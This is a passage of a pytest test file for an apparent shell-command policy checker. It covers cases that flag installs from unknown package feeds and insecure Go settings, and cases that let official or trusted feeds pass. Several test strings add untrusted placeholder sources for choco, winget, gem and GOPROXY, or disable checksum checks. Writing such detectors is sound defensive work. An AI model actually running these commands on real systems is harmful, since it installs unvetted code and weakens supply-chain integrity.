        ("choco install git --source=https://choco.x.example/api/v2", "--source",
         "https://choco.x.example/api/v2"),
        ('choco source add -n=x -s="https://choco.x.example/"', "add --source",
         "https://choco.x.example/"),
        ("winget source add -n x https://winget.x.example/", "add", "https://winget.x.example/"),
        ("winget install --id Foo.Bar --source shady", "--source", "shady"),
        ("brew tap someone/tools", "someone/tools from", "https://github.com/someone/homebrew-tools"),
        ("gem sources -a https://gems.x.example/", "-a", "https://gems.x.example/"),
        ("go env -w GOPROXY=https://goproxy.x.example,direct", "GOPROXY",
         "https://goproxy.x.example"),
    ],
)  # fmt: skip
def test_sources_added_or_trusted_by_command(command: str, option: str, value: str) -> None:
    (install,) = installs_in(parse(command))
    assert (option, value) in install.indexes
    assert run(command).verdict is not Verdict.OK


@pytest.mark.parametrize(
    "command",
    [
        "Set-PSRepository -Name PSGallery -InstallationPolicy Trusted",
        "winget install --id Git.Git --source winget",
        "choco install git --source chocolatey",
        "brew tap homebrew/cask-fonts",
        "dotnet add package Serilog --source https://api.nuget.org/v3/index.json",
        "Install-Module Az -Repository PSGallery",
        "dotnet publish -sc true -r linux-x64 src/Api/Api.csproj",  # -sc: self-contained
        "dotnet build -c Release",
        "choco install shop-agent -s '.\\artifacts'",  # a folder of packages on this machine
        "Install-Package Shop.Core -Source 'C:\\packages'",
    ],
)
def test_the_registries_own_sources_pass(command: str) -> None:
    result = build({"checks": ["untrusted_source", "unpinned_url"]}).evaluate(
        Action(type="shell", args={"command": command}), CTX
    )
    assert result.verdict in (Verdict.OK, Verdict.REFUSE), result.reason  # refuse: no install


def test_a_deployment_names_its_feeds_in_trusted_sources() -> None:
    feeds = build(
        {"checks": ["untrusted_source"], "trusted_sources": ["corpfeed", "nuget.corp.example"]}
    )
    for command in (
        "Install-Module Shop.Tools -Repository CorpFeed",
        "dotnet nuget add source https://nuget.corp.example/v3/index.json -n corp",
        "choco install shop-agent --source corpfeed",
    ):
        assert run(command, feeds).verdict is Verdict.OK, command
    assert run("Install-Module Shop.Tools -Repository OtherFeed", feeds).verdict is Verdict.NUDGE
    share = run("choco install x -s '\\\\fileserver\\pkgs'", feeds)  # another machine
    assert share.verdict is Verdict.NUDGE


def test_insecure_go_settings_by_go_env() -> None:
    result = run("go env -w GOINSECURE=*.corp.example GONOSUMDB=*")
    assert result.verdict is Verdict.NUDGE
    assert "GOINSECURE=*.corp.example" in result.reason


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("export GOPROXY=https://goproxy.x.example", "goproxy.x.example"),
        ("export GOFLAGS=-insecure GONOSUMDB=*", "GOFLAGS=-insecure"),
        ("GOPROXY=https://goproxy.x.example go build ./...", "goproxy.x.example"),
        ("go install -insecure x.example/y@latest", "-insecure"),
    ],
)
def test_go_settings_in_the_environment(command: str, said: str) -> None:
    result = run(command)
    assert result.verdict is Verdict.NUDGE
    assert said in (result.reason or "")


def test_the_go_proxy_itself_passes() -> None:
    assert run("export GOPROXY=https://proxy.golang.org,direct").verdict is Verdict.OK
